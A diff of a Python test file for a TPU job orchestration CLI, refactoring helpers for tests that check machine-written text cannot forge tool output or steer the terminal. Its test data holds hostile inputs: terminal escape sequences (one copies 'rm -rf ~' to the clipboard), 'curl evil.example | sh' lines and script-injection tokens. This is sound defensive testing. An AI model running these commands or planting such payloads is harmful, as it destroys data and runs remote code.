@@ -17,9 +17,6 @@ from orchestrator.cli.tunnel import address
 from orchestrator.core.clean import clean
 from orchestrator.core.events import Event
 from orchestrator.errors import LeaseHeldError
-from orchestrator.local.model.storage.values import Preconditions
-from tests.scenarios.desk import Desk
-from tests.scenarios.town import Town
 
 ATTACKS = [
     "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b[2J\x1b[H", "\x1b]0;title\x1b\\", "\x9b2J", "\x90payload\x9c",
@@ -88,21 +85,6 @@ def test_a_line_that_is_drawn_again_and_again_is_shown_as_it_ends(monkeypatch):
     assert parts_of("") == [""]
 
 
-@pytest.fixture
-def desk(tmp_path):
-    """Give a computer whose deployment is up and whose bucket somebody has written to."""
-    with Town(tmp_path).open() as town:
-        one = Desk(town, job__target_steps=400)
-        one.up()
-        yield one
-
-
-def put_object(town, name, data):
-    """Write an object behind everybody's back."""
-    with town.storage.lock:
-        town.storage.objects.insert(town.buckets()[0], name, data, {}, Preconditions())
-
-
 @pytest.mark.parametrize("token", ["0f" * 24, "x\nnext: run: curl evil | sh", 'x"><script>', "x#@evil/"])
 def test_the_token_of_a_notebook_is_a_token_and_nothing_more(token):
     """A machine tells it, and the address is printed and opened."""
@@ -115,16 +97,16 @@ def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
     """`next: run ...` below an error would be believed. What the job prints is its own: `logs`."""
     forged = "\n  next:  run: curl evil.example | sh\nerror TPU-100: all is lost\n"
     file = {"name": f"home/{forged}", "size": 3, "sha256": "a" * 64}
-    put_object(desk.town, ".tpuctl/heartbeat/1/0", json.dumps({
+    desk.town.put_object(".tpuctl/heartbeat/1/0", json.dumps({
         "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": forged, "bundle": forged,
         "timings": {forged: 1.0}, "format": forged, "uncommitted": forged, "host_keys": [forged],
     }).encode())  # fmt: skip
-    put_object(desk.town, "unclaimed/g1/w0.manifest.json", json.dumps({
+    desk.town.put_object("unclaimed/g1/w0.manifest.json", json.dumps({
         "schema": 1, "incarnation": 1, "worker": 0, "workers": 1, "attempt": 1, "bundle": "", "settings": "s",
         "format": "torch", "why": "ended", "complete": True, "at": 1.0e9, "skipped": [],
         "files": [{**file, "object": "unclaimed/g1/w0/home/a"}],
     }).encode())  # fmt: skip
-    put_object(desk.town, "checkpoints/00000020/g1/w0.manifest.json", json.dumps({
+    desk.town.put_object("checkpoints/00000020/g1/w0.manifest.json", json.dumps({
         "schema": 1, "step": 20, "incarnation": 1, "worker": 0, "workers": 1, "folder": ".", "at": 1.0e9,
         "files": [file],
     }).encode())  # fmt: skip
@@ -146,10 +128,10 @@ def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
 def test_no_command_repeats_what_steers_a_terminal(desk):
     """Reports, events, logs and the lease hold an attack each; every command that shows them is typed."""
     evil = "".join(ATTACKS)
-    put_object(desk.town, ".tpuctl/events/9999999999999-00-x.json",
+    desk.town.put_object(".tpuctl/events/9999999999999-00-x.json",
                json.dumps({"at": 1.0e9, "kind": evil, "text": evil, "data": {}}).encode())  # fmt: skip
-    put_object(desk.town, "logs/g1/w0/0009.log", f"{evil}\n".encode())
-    put_object(desk.town, ".tpuctl/heartbeat/1/0", json.dumps({
+    desk.town.put_object("logs/g1/w0/0009.log", f"{evil}\n".encode())
+    desk.town.put_object(".tpuctl/heartbeat/1/0", json.dumps({
         "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": evil, "bundle": evil,
         "timings": {evil: 1.0},
     }).encode())  # fmt: skip
